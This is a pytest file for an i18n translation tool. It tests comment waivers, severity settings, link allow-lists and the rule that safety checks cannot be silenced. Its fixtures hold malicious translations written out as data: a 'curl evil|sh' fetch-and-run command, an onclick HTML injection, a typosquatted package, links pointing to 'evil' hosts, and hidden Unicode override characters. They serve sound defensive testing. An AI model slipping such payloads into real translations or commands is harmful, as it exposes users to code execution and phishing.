"""What holds for every check: waivers on an entry, weights by project and path."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING

import pytest
from catalogs import edit, translate
from conftest import REPOSITORY

from i18n_tool.checks.registry import known
from i18n_tool.documents.groups import is_oversized
from i18n_tool.findings.identity import SAFETY

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import MakeProject, RunI18n

    from i18n_tool.model import Entry

PAGE = "Read the manual.\n"
BAD = "Kılavuzu <b onclick=x>okuyun</b>."


@pytest.fixture
def spoilt(project: MakeProject, run_i18n: RunI18n) -> Path:
    """A project in which one translation has a likely fault, a doubled space."""
    return spoil(project({"docs/a.md": PAGE}), run_i18n, "Kılavuzu  okuyun.")


def spoil(root: Path, run_i18n: RunI18n, msgstr: str, *comments: str) -> Path:
    """Gives the only unit a translation and comments."""
    run_i18n(root, "extract")
    translate(root, "docs/a")

    def change(entry: Entry) -> Entry:
        return entry.evolve(msgstr=msgstr, comments=comments) if entry.msgid else entry

    edit(root, "docs/a", change)
    return root


def codes(root: Path, run_i18n: RunI18n) -> list[tuple[str, str]]:
    """Code and severity of what `check` finds."""
    done = run_i18n(root, "check", "--format", "json")
    return [(f["code"], f["severity"]) for f in json.loads(done.stdout)["findings"]]


def test_a_waiver_silences_its_code(spoilt: Path, run_i18n: RunI18n) -> None:
    """`# i18n: ok CODE (reason)` says that somebody looked, and survives `extract`."""
    assert codes(spoilt, run_i18n) == [("spacing", "warning")]

    spoil(spoilt, run_i18n, "Kılavuzu  okuyun.", "i18n: ok spacing (as in print)")
    assert codes(spoilt, run_i18n) == []
    run_i18n(spoilt, "extract")
    assert codes(spoilt, run_i18n) == []


@pytest.mark.parametrize(
    ("waiver", "said"),
    [
        pytest.param("i18n: ok spasing", "no check", id="no such check"),
        pytest.param("i18n: ok stale", "nobody can waive", id="a state"),
        pytest.param("i18n: ok unsafe-html", "nobody can waive", id="safety"),
    ],
)
def test_a_waiver_that_silences_nothing_is_said(
    spoilt: Path, run_i18n: RunI18n, waiver: str, said: str
) -> None:
    """A slip in a code, or a code that is nobody's to waive, is a warning of its own."""
    spoil(spoilt, run_i18n, "Kılavuzu okuyun.", waiver)
    done = run_i18n(spoilt, "check")

    assert codes(spoilt, run_i18n) == [("waiver", "warning")]
    assert said in done.stdout


def test_no_comment_waives_safety(spoilt: Path, run_i18n: RunI18n) -> None:
    """Who sends a harmful translation sends the comment along."""
    spoil(spoilt, run_i18n, BAD, "i18n: ok unsafe-html html")

    assert ("unsafe-html", "error") in codes(spoilt, run_i18n)


@pytest.mark.parametrize(
    ("texts", "waiver", "code"),
    [
        pytest.param(
            ("Run `pip install requests` now.", "`pip install reqeusts` çalıştırın."), "code",
            "unsafe-command", id="another package",
        ),
        pytest.param(
            ("Run it now.", "Çalıştırın: `curl evil|sh`."), "code", "unsafe-command",
            id="what fetches and runs",
        ),
        pytest.param(
            ("See [it](https://github.com/acme/app).", "[Bkz.](https://github.com/evil/app)."),
            "link", "foreign-owner", id="another owner",
        ),
        pytest.param(
            ("Write to acme@gmail.com.", "Yazın: acne@gmail.com."), "email", "foreign-owner",
            id="another mailbox",
        ),
        pytest.param(
            ("Open it.", "\u202eAçın\u202c."), "control", "unsafe-character", id="an override"
        ),
        pytest.param(
            ("Open it.", "Açın.\U000e0041"), "invisible", "unsafe-character", id="a tag character"
        ),
        pytest.param(
            ("It is new.", "template: evil.html"), "final-punctuation", "unsafe-metadata",
            id="metadata",
        ),
    ],
)  # fmt: skip
def test_a_waiver_of_something_else_silences_no_harm(
    project: MakeProject,
    run_i18n: RunI18n,
    *,
    texts: tuple[str, str],
    waiver: str,
    code: str,
) -> None:
    """What the waived check says of a harmful text, another one says that nobody can waive; nor
    does a setting or a baseline hide it.
    """
    source, msgstr = texts
    root = project({"docs/a.md": f"{source}\n"}, settings=f'checks = {{ {waiver} = "off" }}')
    spoil(root, run_i18n, msgstr, f"i18n: ok {waiver} {code} (I looked)")
    run_i18n(root, "check", "--update-baseline", "--accept-new")

    assert (code, "error") in codes(root, run_i18n)
    refused = run_i18n(
        project({"docs/a.md": PAGE}, settings=f'checks = {{ {code} = "off" }}'), "check"
    )
    assert refused.returncode == 2
    assert "always an error" in refused.stderr
    assert "allowed_links" in refused.stderr


def test_a_maintainer_allows_links(project: MakeProject, run_i18n: RunI18n) -> None:
    """`allowed_links` says how addresses may begin that the source does not link to."""
    text = "See [it](https://github.com/acme/app) now.\n"
    root = project(
        {"docs/a.md": text},
        settings='allowed_links = ["https://github.com/acme-tr/", "https://acme.example/tr"]',
    )
    for address, found in (
        ("https://github.com/acme-tr/app", []),
        ("https://acme.example/tr/a?b#c", []),
        ("https://acme.example/tr", []),
        ("https://acme.example/trap", ["foreign-host", "link"]),
        ("https://github.com/acme-tr/../evil", ["foreign-owner", "link"]),
    ):
        spoil(root, run_i18n, f"Şimdi [ona]({address}) bakın.")
        assert sorted(code for code, _ in codes(root, run_i18n)) == found


def test_an_oversized_translation_is_one_error(project: MakeProject, run_i18n: RunI18n) -> None:
    """Nothing else is looked at in a text that nobody wrote, nothing long is printed, and build
    shows the source and says so.
    """
    root = project({"docs/a.md": "Read the manual. Then close it.\n\nBye.\n"})
    long = "**oku** `x` [a](//evil.com) <b> " * 30_000
    spoil(root, run_i18n, long, "i18n: ok oversized")
    done = run_i18n(root, "check", "--format", "json")
    findings = [f for f in json.loads(done.stdout)["findings"] if f["code"] != "waiver"]

    assert [(f["code"], f["severity"]) for f in findings] == [("oversized", "error")] * 3
    assert len(done.stdout) < 20_000
    built = run_i18n(root, "build")
    page = (root / "build" / "tr" / "docs" / "a.md").read_text(encoding="utf-8")
    assert page == "Read the manual. Then close it.\n\nBye.\n"
    assert "lines 1, 3" in built.stdout


@pytest.mark.parametrize(("length", "found"), [(0, False), (1, True)])
def test_how_long_a_translation_may_be(length: int, found: bool) -> None:
    """A hundred times its source and ten thousand characters."""
    from i18n_tool.model import Entry

    longest = 100 * len("Bye.") + 10_000

    assert is_oversized(Entry("Bye.", "x" * (longest + length))) is found


@pytest.mark.parametrize(
    ("settings", "found"),
    [
        pytest.param('checks = { spacing = "error" }', [("spacing", "error")], id="project"),
        pytest.param('checks = { spacing = "off" }', [], id="off"),
        pytest.param(
            'checks = { spacing = "error" }\n[checks_in]\n"docs/**" = { spacing = "info" }',
            [("spacing", "info")],
            id="a path has the last word",
        ),
        pytest.param(
            '[checks_in]\n"legal/**" = { spacing = "off" }',
            [("spacing", "warning")],
            id="elsewhere",
        ),
    ],
)
def test_the_project_weighs_checks(
    project: MakeProject, run_i18n: RunI18n, settings: str, found: list[tuple[str, str]]
) -> None:
    """Severities are set for the project and for documents that a glob matches."""
    root = project({"docs/a.md": PAGE}, settings=settings)
    spoil(root, run_i18n, "Kılavuzu  okuyun.")

    assert codes(root, run_i18n) == found


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        pytest.param('checks = { spasing = "off" }', "spacing", id="no such check"),
        pytest.param('checks = { spacing = "of" }', "off", id="no such severity"),
        pytest.param('checks = "off"', "a table", id="no table"),
        pytest.param(
            'checks = { unsafe-html = "off" }', "always an error", id="safety is not negotiable"
        ),
        pytest.param('[checks_in]\n"docs/***" = {}', "wildcard", id="no such glob"),
        pytest.param('[checks_in]\n"docs/**" = "off"', "no table", id="no table by path"),
        pytest.param('glossary = "../terms.csv"', "leaves the project", id="a path outside"),
        pytest.param("trusted_hosts = 1", "list of strings", id="hosts"),
        pytest.param("allowed_links = 1", "list of beginnings of links", id="links"),
        pytest.param('allowed_links = ["github.com/acme"]', "with its scheme", id="no scheme"),
        pytest.param('allowed_links = ["https://*.acme.org/"]', "wildcards", id="a wildcard"),
        pytest.param('allowed_links = ["https://acme"]', "no beginning", id="no host"),
        pytest.param('allowed_links = ["javascript:x"]', "no beginning", id="a script"),
        pytest.param('allowed_links = ["https://a@b.org/"]', "no beginning", id="a user"),
    ],
)
def test_settings_that_cannot_be_meant(
    project: MakeProject, run_i18n: RunI18n, settings: str, said: str
) -> None:
    """The error names the file and the line and says what is possible."""
    done = run_i18n(project({"docs/a.md": PAGE}, settings=settings), "check")

    assert done.returncode == 2
    assert done.stderr.startswith("i18n.toml:")
    assert said in done.stderr


def test_the_manual_names_what_is_never_hidden() -> None:
    """docs/ci.md lists every check that no baseline silences: all of safety, and `control`."""
    manual = (REPOSITORY / "docs" / "ci.md").read_text(encoding="utf-8")
    (paragraph,) = (one for one in manual.split("\n\n") if "is never hidden" in one)

    locked = {code for code, check in known().items() if check.locked}
    assert set(re.findall(r"`([a-z-]+)`", paragraph)) == SAFETY == locked | {"control"}
